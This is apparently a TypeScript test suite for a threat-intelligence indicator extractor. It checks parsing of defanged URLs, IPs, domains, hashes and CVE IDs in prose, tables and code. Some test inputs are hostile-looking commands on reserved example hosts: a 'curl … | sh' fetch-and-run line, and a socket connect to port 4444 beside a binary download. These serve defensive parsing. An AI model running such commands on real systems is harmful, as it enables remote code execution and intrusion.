import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import test from 'node:test';

import { sharedData } from '../../shared-data.ts';
import { assertFound, found } from './found.ts';

test('every type is found in running text', () => {
  const text = `The actor (TA0001, T1059.001) used CVE-2024-1234 and cve\u20112024\u20115678, mailed user@example.com,
    dropped ${'ab'.repeat(16)}, SHA256:${'cd'.repeat(32)}; contacted 192.0.2.1:8080, 2001:db8::1 and
    https://example.com/a?b=c. It also resolved www.example.org/x and c2.example.net!`;
  assert.deepEqual(found(text), [
    'mitre-attack TA0001',
    'mitre-attack T1059.001',
    'cve CVE-2024-1234',
    'cve CVE-2024-5678',
    'email user@example.com',
    `md5 ${'ab'.repeat(16)}`,
    `sha256 ${'cd'.repeat(32)}`,
    'ipv4 192.0.2.1',
    'ipv6 2001:db8::1',
    'url https://example.com/a?b=c',
    'url http://www.example.org/x',
    'domain c2.example.net',
  ]);
});

test('defanged values are found, those with spaces inside too', () => {
  assertFound({
    'at example[.]com, example(.)org and example{dot}net': [
      'domain example.com',
      'domain example.org',
      'domain example.net',
    ],
    'at example [.] com today': ['domain example.com'],
    'at example [ . ] com or example[.com': ['domain example.com'],
    'mail user @ example[.]com or admin[at]example[dot]org': [
      'email user@example.com',
      'email admin@example.org',
    ],
    'from user@ example[.]com': ['email user@example.com'],
    'hxxp[://]192[.]0[.]2[.]1[:]8077/6Qeq': ['url http://192.0.2.1:8077/6Qeq'],
    'hxxps://example [.] com/a.php': ['url https://example.com/a.php'],
    'http%3A%2F%2Fexample%2Ecom%2Fa.hta"/>': ['url http://example.com/a.hta'],
    'example[.]com/gate.php': ['url http://example.com/gate.php'],
    '198.51.100[.]7 and 198[.]51[.]100[.]0/24': ['ipv4 198.51.100.7', 'ipv4 198.51.100.0/24'],
    '2001[:]db8[:]:1': ['ipv6 2001:db8::1'],
    'h**p://a.example.com/x meow://b.example.com/y http[s]://c.example.com/z tcp[:]//d.example[.]com:4444': [
      'url http://a.example.com/x',
      'url http://b.example.com/y',
      'url https://c.example.com/z',
      'url tcp://d.example.com:4444',
    ],
    'b\u00fccher[.]example[.]com': ['domain xn--bcher-kva.example.com'],
  });
});

test('a URL ends where its sentence goes on', () => {
  assertFound({
    '(see http://192.0.2.1/a_(b).)': ['url http://192.0.2.1/a_(b)'],
    '[text](http://192.0.2.1/a), next': ['url http://192.0.2.1/a'],
    'http://192.0.2.1/[link text]': ['url http://192.0.2.1/'],
    'http://192.0.2.1/?a[]=1&b[0]=2': ['url http://192.0.2.1/?a[]=1&b[0]=2'],
    "get('http://192.0.2.1/a.exe','C:\\x')": ['url http://192.0.2.1/a.exe'],
    '++http://192.0.2.1/a.php++': ['url http://192.0.2.1/a.php'],
    '**http://192.0.2.1/a**': ['url http://192.0.2.1/a'],
    'http://192.0.2.1/a,http://192.0.2.1/b;http://192.0.2.1/c': [
      'url http://192.0.2.1/a',
      'url http://192.0.2.1/b',
      'url http://192.0.2.1/c',
    ],
    '|http://192.0.2.1/a|http://192.0.2.1/b|': ['url http://192.0.2.1/a', 'url http://192.0.2.1/b'],
    'url=http://192.0.2.1/a!!! x.http://192.0.2.1/b?': ['url http://192.0.2.1/a', 'url http://192.0.2.1/b'],
    'http://192.0.2.1/a.exe\u3092\u4f7f\u7528\u3057\u305f': ['url http://192.0.2.1/a.exe'],
  });
});

test('the host of a URL and the domain of an address are not found again', () => {
  assertFound({
    'hxxp://c2.example.com/a user@mail.example.org': [
      'url http://c2.example.com/a',
      'email user@mail.example.org',
    ],
    'hxxp://c2.example.com/a and c2[.]example.com itself': [
      'url http://c2.example.com/a',
      'domain c2.example.com',
    ],
  });
});

test('names stand apart from scripts without spaces', () => {
  assertFound({
    '\u8bbf\u95eeexample.com\u4e0b\u8f7d\uff0c\u6216192.0.2.1\u3002': [
      'domain example.com',
      'ipv4 192.0.2.1',
    ],
  });
});

test('rows of appendices are read field by field', () => {
  assertFound({
    'type,value,note\nurl,hxxp://a.example.com/x.zip,Zip of the sample\ndomain,b.example.com,C2\nURL,c.example.com/y,site':
      ['url http://a.example.com/x.zip', 'domain b.example.com', 'url http://c.example.com/y'],
    'Type\tIndicator\nDomain\ta.example.com\nIP\t192.0.2.7\nFile\tinvoice.zip': [
      'domain a.example.com',
      'ipv4 192.0.2.7',
    ],
    '| Domain | IP | File name |\n|---|---|---|\n| a.example.sh | 192.0.2.7 | run.example.sh |': [
      'domain a.example.sh',
      'ipv4 192.0.2.7',
    ],
    '- 192.0.2.7 port 443 - a.example.com - HTTPS traffic of the loader': [
      'ipv4 192.0.2.7',
      'domain a.example.com',
    ],
  });
});

test('servers are found in command lines, paths to shares and code', () => {
  assertFound({
    'curl -s a.example.org/run | sh': ['url http://a.example.org/run'],
    '\\\\a.example.org@SSL\\DavWWWRoot\\x.lnk and \\\\192.0.2.8@80\\share\\x.msi': [
      'domain a.example.org',
      'ipv4 192.0.2.8',
    ],
    'ssh root@192.0.2.9 -p 2222': ['ipv4 192.0.2.9'],
    '```\ns.connect(("192.0.2.10", 4444)); get("https://a.example.net/x.bin"); id = self.name\n```': [
      'ipv4 192.0.2.10',
      'url https://a.example.net/x.bin',
    ],
    '{"c2": ["a.example.com:443"], "ua": "curl/7.88.1.2"}': ['domain a.example.com'],
  });
});

test('every case of the recorded refanging tests is read in prose as well', (t) => {
  const path = sharedData(t, 'defang/cases.json');
  if (path === undefined) return;
  const cases = JSON.parse(readFileSync(path, 'utf8')) as Record<string, [string, string][]> & {
    ipv4_extract: string[];
    ipv6_extract: string[];
  };
  for (const address of cases.ipv4_extract)
    assert.match(found(`server ${address} there`)[0] ?? address, /^ipv4 /);
  for (const address of cases.ipv6_extract)
    assert.match(found(`server ${address} there`)[0] ?? address, /^ipv6 /);
  for (const [plain, defanged] of cases.defang ?? []) {
    const [ioc = defanged] = found(`server ${defanged} there`);
    assert.ok(ioc.endsWith(plain), `${defanged}: ${ioc}`);
  }
});
